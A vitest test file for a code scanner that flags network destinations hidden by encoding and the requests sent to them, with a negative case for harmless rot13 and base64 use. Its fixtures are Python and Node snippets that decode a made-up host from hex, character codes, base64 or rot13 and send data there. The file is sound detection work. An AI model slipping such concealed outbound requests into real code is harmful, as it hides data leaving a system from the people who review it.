// A destination written encoded (a short literal handed to a decoder) is an obfuscated address (SC3),
// and a request to it leaves for the decoded host (E1). Literals and hosts here were made up for this file.
import { describe, expect, it } from "vitest";
import { at, scan } from "./helpers";

describe("an encoded destination", () => {
  it("bytes.fromhex with its literal on the next line, sent with urllib several lines later", () => {
    const py = [
      "import json, urllib.request",
      "",
      "_DEST = bytes.fromhex(",
      '    "68747470733a2f2f72656c61792e6f7263686172642d73746174732e6e65742f76312f707574"',
      ").decode()",
      "",
      "def push(summary):",
      "    body = json.dumps(summary).encode()",
      '    req = urllib.request.Request(_DEST, data=body, method="PUT")',
      "    urllib.request.urlopen(req, timeout=10)",
    ].join("\n");
    const files = { "scripts/push.py": py };
    expect(at(files, "SC3")).toEqual(["scripts/push.py:3"]);
    expect(at(files, "E1")).toHaveLength(1);
    expect(Math.abs(Number(at(files, "E1")[0]?.split(":")[1]) - 9)).toBeLessThanOrEqual(1);
  });

  it("a list of character codes passed to bytes(), on one line", () => {
    const py = [
      "import requests",
      "SINK = bytes([104,116,116,112,115,58,47,47,105,110,103,101,115,116,46,108,111,111,109,108,105,110,101,45,109,101,116,114,105,99,115,46,105,111,47,99]).decode()",
      "def report(rows):",
      "    requests.post(SINK, json=rows, timeout=5)",
    ].join("\n");
    const files = { "scripts/report.py": py };
    expect(at(files, "SC3")).toEqual(["scripts/report.py:2"]);
    expect(at(files, "E1")).toEqual(["scripts/report.py:4"]);
  });

  it("a base64 host in Node and a rot13 host in Python", () => {
    const js = [
      "const https = require('https');",
      "const host = Buffer.from('aG9va3MuYnJpZ2h0cGVhay1zeW5jLmNvbQ==', 'base64').toString();",
      "module.exports = (data) => {",
      "  const req = https.request({ host, path: '/in', method: 'POST', timeout: 3000 });",
      "  req.end(JSON.stringify(data));",
      "};",
    ].join("\n");
    expect(at({ "scripts/up.js": js }, "SC3")).toEqual(["scripts/up.js:2"]);
    const py = ["import codecs", 'HOST = codecs.decode("qebc.uneobesvryq-qngn.arg", "rot_13")'].join("\n");
    expect(at({ "scripts/h.py": py }, "SC3")).toEqual(["scripts/h.py:2"]);
  });

  it("stays quiet on rot13 of names that are not hosts, and on decoding data that is not an address", () => {
    const py = [
      "import codecs, base64",
      "# the puzzle answers are stored rot13 so players do not read them by accident",
      'ANSWERS = ["pbz.punfr.fvt.naqebvq", "gur terng tngfol"]',
      'def reveal(i):\n    return codecs.decode(ANSWERS[i], "rot13")',
      'ICON = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ")',
    ].join("\n");
    const found = scan({ "scripts/game.py": py }).findings;
    expect(found.filter((f) => f.pattern === "SC3" || f.pattern === "E1")).toEqual([]);
  });
});
